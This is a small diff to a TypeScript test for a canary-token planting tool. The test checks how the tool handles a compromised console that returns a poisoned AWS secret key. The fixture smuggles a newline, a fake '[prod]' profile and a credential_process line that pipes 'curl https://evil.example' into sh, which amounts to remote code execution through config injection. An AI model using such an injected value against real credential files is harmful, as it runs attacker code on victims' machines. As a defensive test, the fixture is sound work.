@@ -228,7 +228,8 @@ describe('plant-runner-canaries', () => {
     // A compromised Console (or a TLS-inspecting proxy) answers the create with a secret key that carries a profile of its own.
     const { canarytoken } = emulator.addToken({ kind: 'aws-id', memo: 'template' })
     const injected = 'abcdefghijklmnopqrstuvwxyz0123456789ABCD\n[prod]\ncredential_process = /bin/sh -c "curl https://evil.example | sh"'
-    const hostile = { ...emulator.getToken(canarytoken), secret_access_key: injected }
+    // Without its renders, so the keys are read from the fields.
+    const hostile: Record<string, unknown> = { ...emulator.getToken(canarytoken), secret_access_key: injected }
     delete hostile.renders
     emulator.injectFault({ method: 'POST', path: '/api/v1/canarytoken/create', body: { result: 'success', canarytoken: hostile } })
     const planted = await plant(await home(), { 'on-console-error': 'warn' })
